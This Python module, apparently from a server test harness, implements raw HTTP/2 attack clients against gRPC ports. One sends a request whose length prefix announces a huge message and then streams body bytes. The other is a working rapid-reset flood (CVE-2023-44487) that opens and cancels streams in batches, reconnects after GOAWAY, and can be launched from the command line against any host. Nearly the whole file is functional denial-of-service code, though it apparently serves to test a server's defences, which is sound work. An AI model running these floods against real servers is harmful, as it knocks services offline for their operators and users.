"""Raw HTTP/2 clients that abuse a gRPC port the way issue 22's adversary did: a request whose length
prefix announces a huge message, and the rapid-reset flood (CVE-2023-44487). Built on ``h2`` directly,
since a well-behaved gRPC client refuses to do either.
"""

from __future__ import annotations

import asyncio
import contextlib
import struct
import time
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.events
import h2.exceptions
from h2.errors import ErrorCodes

__all__ = ["H2Client", "OversizeResult", "ResetResult", "rapid_reset", "request_headers", "send_oversized"]


def request_headers(host: str, port: int, path: str) -> list[tuple[str, str]]:
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", f"{host}:{port}"),
            ("content-type", "application/grpc"), ("te", "trailers")]


class H2Client:
    """A client h2 connection over an asyncio socket, with the events received so far."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.h2.initiate_connection()
        self.closed = False
        self.events: list[h2.events.Event] = []

    @classmethod
    async def open(cls, host: str, port: int) -> H2Client:
        reader, writer = await asyncio.open_connection(host, port)
        conn = cls(reader, writer)
        await conn.flush()
        return conn

    async def flush(self) -> None:
        data = self.h2.data_to_send()
        if self.writer.is_closing() or self.reader.at_eof():
            self.closed = True
        if data and not self.closed:
            self.writer.write(data)
            with contextlib.suppress(ConnectionError):
                await self.writer.drain()

    async def pump(self, timeout: float) -> None:
        """Read what the server sent within ``timeout`` (nothing more when it closed)."""
        if self.closed:
            return
        if self.reader.at_eof() or self.writer.is_closing():
            self.closed = True
        try:
            data = await asyncio.wait_for(self.reader.read(65536), timeout)
        except (TimeoutError, ConnectionError):
            return
        if not data:
            self.closed = True
            return
        try:
            self.events += self.h2.receive_data(data)
        except h2.exceptions.ProtocolError:
            self.closed = True
        await self.flush()

    def close(self) -> None:
        self.writer.close()


@dataclass
class OversizeResult:
    """What the server did with a request announcing ``announced`` bytes."""

    announced: int
    sent: int = 0  #: body bytes the server let us send (flow control)
    status: str | None = None  #: grpc-status in the server's trailers
    message: str = ""
    reset: ErrorCodes | None = None  #: RST_STREAM code the server sent, if any
    seconds: float = 0.0


async def send_oversized(host: str, port: int, path: str, announced: int, *, timeout: float = 10.0) -> OversizeResult:
    """Send a request whose prefix announces ``announced`` bytes, then body bytes for as long as the
    server's flow control allows, until it answers (trailers) or resets the stream, or ``timeout``."""
    result = OversizeResult(announced)
    conn = await H2Client.open(host, port)
    start = time.monotonic()
    try:
        sid = conn.h2.get_next_available_stream_id()
        conn.h2.send_headers(sid, request_headers(host, port, path))
        conn.h2.send_data(sid, b"\x00" + struct.pack(">I", announced))
        await conn.flush()
        chunk = b"\x00" * 16384
        while time.monotonic() - start < timeout and result.status is None and result.reset is None:
            try:
                window = min(conn.h2.local_flow_control_window(sid), conn.h2.max_outbound_frame_size)
            except h2.exceptions.StreamClosedError:
                window = 0
            if window > 0 and result.sent < announced:
                n = min(window, len(chunk), announced - result.sent)
                conn.h2.send_data(sid, chunk[:n])
                result.sent += n
                await conn.flush()
                await conn.pump(0.0001)
            else:
                await conn.pump(0.2)
            for event in conn.events:
                if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                    fields = dict(event.headers)
                    result.status = fields.get("grpc-status", result.status)
                    result.message = fields.get("grpc-message", result.message)
                elif isinstance(event, h2.events.StreamReset):
                    result.reset = ErrorCodes(event.error_code)
            conn.events.clear()
            if conn.closed:
                break
        # The server may reset right after its trailers: read a little more to see it.
        for _ in range(5):
            if result.reset is not None or conn.closed:
                break
            await conn.pump(0.1)
            result.reset = next((ErrorCodes(e.error_code) for e in conn.events
                                 if isinstance(e, h2.events.StreamReset)), None)
    finally:
        result.seconds = time.monotonic() - start
        conn.close()
    return result


@dataclass
class ResetResult:
    """What a rapid-reset flood achieved on one or more connections."""

    streams: int = 0  #: streams opened (and reset at once)
    connections: int = 0
    goaways: list[ErrorCodes] = field(default_factory=list)
    refused: int = 0  #: streams the server refused (REFUSED_STREAM)


async def rapid_reset(host: str, port: int, path: str, *, seconds: float, batch: int = 200) -> ResetResult:
    """Open and reset streams as fast as this client writes, for ``seconds``; reconnect after a GOAWAY."""
    result = ResetResult()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            conn = await H2Client.open(host, port)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        result.connections += 1
        try:
            while time.monotonic() < end and not conn.closed:
                try:
                    for _ in range(batch):
                        sid = conn.h2.get_next_available_stream_id()
                        conn.h2.send_headers(sid, request_headers(host, port, path))
                        conn.h2.reset_stream(sid, ErrorCodes.CANCEL)
                        result.streams += 1
                except h2.exceptions.ProtocolError:
                    break  # the server said GOAWAY: h2 refuses new streams
                await conn.flush()
                await conn.pump(0.0001)
                for event in conn.events:
                    if isinstance(event, h2.events.ConnectionTerminated):
                        result.goaways.append(ErrorCodes(event.error_code))
                    elif isinstance(event, h2.events.StreamReset) and event.error_code == ErrorCodes.REFUSED_STREAM:
                        result.refused += 1
                conn.events.clear()
        finally:
            conn.close()
    return result


def _main() -> None:
    """``python -m harness.h2_attacks reset HOST PORT PATH SECONDS``: a flood from its own process (so
    the test's own loop stays free to time the victim's answers); prints the result as JSON."""
    import json
    import sys

    _, what, host, port, path, seconds = sys.argv
    assert what == "reset", what
    result = asyncio.run(rapid_reset(host, int(port), path, seconds=float(seconds)))
    print(json.dumps({"streams": result.streams, "connections": result.connections, "refused": result.refused,
                      "goaways": [int(code) for code in result.goaways]}))


if __name__ == "__main__":
    _main()
